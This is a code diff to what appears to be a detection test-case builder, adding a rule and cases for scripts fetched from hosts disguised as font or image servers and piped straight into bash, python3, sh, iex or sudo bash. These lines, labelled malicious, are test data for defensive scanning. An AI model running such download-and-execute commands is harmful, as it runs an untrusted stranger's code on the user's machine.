@@ -24,6 +24,13 @@ By kind:
   technique's command with no address (`- Child: conhost.exe --headless powershell.exe`): an
   analyst's record (records.py) starts no program. A record line holding a live address, and a
   command on a line of its own under a heading, stay flagged.
+- `script-host-named-media`: a script fetched and run from a host named as a font or picture
+  server (`curl -fsSL https://fontcdn-relay.test/s | python3 -`, `img-cache-…`, `fonts-static…`,
+  `…icons-pack…`), bare with no page: PG-SCRIPT-HOST-NAMED-MEDIA (55-b22-lures.yaml), a disguise
+  beside a stranger's script, blocks it as 28-ioc-traits' traits do. A plain `curl … | sh` or
+  `| python3 -` from a host with no such name stays a warning (issue 9 point 3); a font or
+  badge downloaded and not run, a tool whose name only starts like one (imgtool, fontforge),
+  and the media-named site's own page handing out its own installer stay as they were.
 - `defanged-host-sample`: a report quoting in double quotes a command whose only host is
   written defanged (`"finger gate@198.51.100[.]20 | cmd"`, `"nslookup -q=txt x relay[.]test"`):
   no program resolves such a name. The live host in the same sentence stays flagged.
@@ -140,9 +147,36 @@ def writing(book: Book) -> None:
         book.add(tech, text, expect, "windows", target, BLOG if target != RUN else LURE_PAGE)
 
 
+def media_host(book: Book) -> None:
+    tech = "script-host-named-media"
+    for text in (
+        "curl -fsSL https://fontcdn-relay.test/s | python3 -",
+        "wget -qO- https://img-cache-eu.example/a | bash",
+        "curl -s https://fonts-static.invalid/k | sh",
+        "irm https://imgproxy.test/p | iex",
+        "curl -sL https://cdn.icons-pack.example/i | perl",
+        'bash -c "$(curl -fsSL https://avatar-store.test/x)"',
+        "curl -fsSL https://thumbs.photo-share.invalid/u | sudo bash",
+    ):
+        book.add(tech, text, "malicious", "any", TERMINAL, None)
+    for text, expect, source in (
+        ("curl -fsSL https://x-tools.example/i | python3 -", "suspicious", None),
+        ("curl -fsSL https://fontforge-tools.example/install.sh | bash", "suspicious", None),
+        ("curl -fsSL https://get.imgtool.example/install.sh | sh", "not_flagged",
+         "https://imgtool.example/docs/install"),
+        ("curl -fsSL https://pics.lumen.example/install.sh | sh", "not_flagged",
+         "https://pics.lumen.example/docs"),
+        ("curl -o Inter.zip https://fonts-cdn.example/inter/Inter-4.0.zip", "not_flagged", None),
+        ("curl -fsSL https://img.badges.example/build-passing.svg -o badge.svg", "not_flagged",
+         None),
+    ):  # fmt: skip
+        book.add(tech, text, expect, "any", TERMINAL, source)
+
+
 def build() -> list[dict[str, str]]:
     book = Book("b22f")
     writing(book)
+    media_host(book)
     return book.cases
 
 
